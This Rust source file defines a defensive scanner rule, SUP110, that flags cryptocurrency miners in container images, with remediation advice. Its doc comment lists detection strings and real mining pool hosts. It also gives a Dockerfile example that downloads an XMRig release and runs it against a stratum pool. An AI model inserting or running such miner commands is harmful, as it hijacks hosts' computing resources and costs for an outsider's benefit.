use shipshape_malware::{Category, MalwareMatch};
use shipshape_model::{SourceFile, declare_rule};

use crate::checkers::malware::report_matches;
use crate::context::Checker;

declare_rule! {
    /// ## What it does
    /// Flags a cryptocurrency miner: a miner program (a binary holding at least three of the
    /// strings miners cannot do without: `xmrig`, `randomx`, `cryptonight`, `stratum+tcp`,
    /// `mining.subscribe`, `donate-level`, ...), an XMRig configuration (`"donate-level": 1`),
    /// a miner started with a pool or wallet (`xmrig -o ...`, `cpuminer --url ...`), a miner
    /// release downloaded (`github.com/xmrig/xmrig/releases/...`), a `stratum+tcp://` or
    /// `stratum+ssl://` pool URL, or the host and port of a well-known mining pool
    /// (`pool.supportxmr.com:443`, `gulf.moneroocean.stream:10128`, ...).
    ///
    /// It reads the Dockerfile (`RUN`, `CMD`, `ENTRYPOINT`, heredocs), every script and
    /// configuration file of a scanned directory, Compose files and manifests, an image's
    /// `Entrypoint`, `Cmd` and history, and every file of every image layer, including files a
    /// later layer deletes (the finding names the layer). URLs of documentation hosts
    /// (`example.com`, TEST-NET addresses) are not reported.
    ///
    /// ## Why is this bad?
    /// Cryptojacking is the most common payload of compromised and typosquatted images: the
    /// miner burns the host's CPU (and the cloud bill) for someone else's wallet. A miner in an
    /// image you did not ask for means the image or its build was tampered with.
    ///
    /// ## Example
    /// ```dockerfile
    /// RUN wget -q https://github.com/xmrig/xmrig/releases/download/v6.21.0/xmrig-6.21.0-linux-static-x64.tar.gz
    /// CMD ["./xmrig", "-o", "stratum+tcp://pool.example.com:3333", "-u", "WALLET"]
    /// ```
    ///
    /// Use instead: an image built from sources you trust, without the miner.
    ///
    /// ## Fix
    /// Do not run the image. Find where the miner came from (the layer and build step the finding
    /// names, the base image, a dependency), rebuild from a trusted base, and check running
    /// containers of the image for the same process.
    ///
    /// ## References
    /// - CWE-506: Embedded Malicious Code
    /// - MITRE ATT&CK T1496: Resource Hijacking
    pub static CRYPTOMINER = {
        code: "SUP110",
        name: "cryptominer",
        layer: SupplyChain,
        threat: MaliciousImage,
        asset: Host,
        severity: High,
        fix: None,
        summary: "a cryptocurrency miner is in the image or its scripts",
        aliases: [],
    }
}

pub(crate) fn check(source: &SourceFile, found: &[MalwareMatch], checker: &mut Checker<'_>) {
    report_matches(
        &CRYPTOMINER,
        Category::Cryptominer,
        source,
        found,
        "do not run it: remove the miner and rebuild from a trusted base",
        checker,
    );
}
